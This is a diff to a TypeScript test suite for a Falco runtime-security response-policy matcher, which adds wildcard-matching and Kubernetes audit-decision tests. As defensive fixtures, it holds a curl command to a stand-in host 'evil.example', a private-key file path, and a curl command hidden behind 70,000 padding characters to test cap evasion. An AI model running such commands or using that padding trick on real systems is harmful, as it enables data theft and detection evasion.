@@ -3,6 +3,7 @@ import { ResponsePolicySpec } from '../../../src/api/responsepolicy.js';
 import type { Alert } from '../../../src/intake/falco.js';
 import {
   checkLimits,
+  decideMatch,
   nodesAllowedByPercent,
   policyMatches,
   selectPolicy,
@@ -63,6 +64,28 @@ describe('policyMatches', () => {
     ['output field mismatch', { outputFields: { 'container.image.repository': ['quay.io/*'] } }, {}, false],
     ['null output field never matches', { outputFields: { 'x.null': ['*'] } }, {}, false],
     ['missing output field', { outputFields: { 'fd.name': ['*'] } }, {}, false],
+    // `*` is any text: policies on command lines and file names fire (issue 10).
+    ['* crosses / in a field', { outputFields: { 'container.image.repository': ['*'] } }, {}, true],
+    [
+      'cmdline with spaces and slashes',
+      { outputFields: { 'proc.cmdline': ['*curl*'] } },
+      { fields: { 'proc.cmdline': 'curl http://evil.example/x' } },
+      true,
+    ],
+    [
+      'fd.name path',
+      { outputFields: { 'fd.name': ['/etc/*'] } },
+      { fields: { 'fd.name': '/etc/ssl/private/key.pem' } },
+      true,
+    ],
+    [
+      'curl hidden past the cap still matches',
+      { outputFields: { 'proc.cmdline': ['*curl*'] } },
+      { fields: { 'proc.cmdline': `${'x'.repeat(70_000)} curl` } },
+      true,
+    ],
+    ['audit target, policy not opted in', {}, { auditRequest: { responseCode: 200 } }, false],
+    ['audit target, policy opted in', { auditTargets: true }, { auditRequest: { responseCode: 200 } }, true],
   ] as const)('%s', (_name, match, over, expected) => {
     expect(policyMatches(spec(match), alert(over as Partial<Alert>))).toBe(expected);
   });
@@ -90,6 +113,57 @@ describe('selectPolicy', () => {
 
   it('returns undefined when nothing matches', () => {
     expect(selectPolicy([policy('p', { rules: ['nope'] })], alert())).toBeUndefined();
+  });
+});
+
+describe('decideMatch', () => {
+  const shells = policy('shells', { rules: ['Terminal*'] });
+  const audits = policy('audits', { rules: ['Disallowed K8s User'], auditTargets: true });
+  const auditsNoOptIn = policy('audits', { rules: ['Disallowed K8s User'] });
+  const auditAlert = (code: number | undefined, over: Partial<Alert> = {}) =>
+    alert({
+      rule: 'Disallowed K8s User',
+      source: 'k8s_audit',
+      auditRequest: { responseCode: code },
+      ...over,
+    });
+  it.each([
+    ['a syscall alert', [shells], alert(), 'shells'],
+    ['a syscall alert, no policy', [audits], alert(), 'unmatched'],
+    ['a succeeded request, opted in', [audits], auditAlert(200), 'audits'],
+    ['201 Created, opted in', [audits], auditAlert(201), 'audits'],
+    ['101 exec upgrade, opted in', [audits], auditAlert(101), 'audits'],
+    ['a succeeded request, not opted in', [auditsNoOptIn], auditAlert(200), 'audit-target-not-opted-in'],
+    ['a denied request (403), opted in', [audits], auditAlert(403), 'audit-request-not-succeeded'],
+    ['401 Unauthorized, opted in', [audits], auditAlert(401), 'audit-request-not-succeeded'],
+    ['a 404, opted in', [audits], auditAlert(404), 'audit-request-not-succeeded'],
+    ['a 500, opted in', [audits], auditAlert(500), 'audit-request-not-succeeded'],
+    ['302, opted in', [audits], auditAlert(302), 'audit-request-not-succeeded'],
+    ['no response code, opted in', [audits], auditAlert(undefined), 'audit-request-not-succeeded'],
+    ['a denied request, not opted in', [auditsNoOptIn], auditAlert(403), 'audit-request-not-succeeded'],
+    ['a succeeded request, no policy for the rule', [shells], auditAlert(200), 'unmatched'],
+    [
+      'a succeeded request at a protected namespace',
+      [audits],
+      auditAlert(200, { target: { namespace: 'falco', pod: 'falco-abc12' } }),
+      'protected-namespace',
+    ],
+    [
+      'a protected namespace named exactly, opted in',
+      [policy('falco-too', { auditTargets: true, namespaces: ['falco'] })],
+      auditAlert(200, { target: { namespace: 'falco', pod: 'falco-abc12' } }),
+      'falco-too',
+    ],
+    [
+      'one policy opted in, a higher one not: the opted-in one decides',
+      [audits, policy('loud', { rules: ['Disallowed*'] }, { priority: 100 })],
+      auditAlert(200),
+      'audits',
+    ],
+  ] as const)('%s', (_name, policies, a, expected) => {
+    const d = decideMatch(policies, a, ['falco', 'falcosidekick']);
+    expect(d.policy?.name ?? (d as { reason: string }).reason).toBe(expected);
+    if (!d.policy) expect((d as { message: string }).message.length).toBeGreaterThan(20);
   });
 });
 
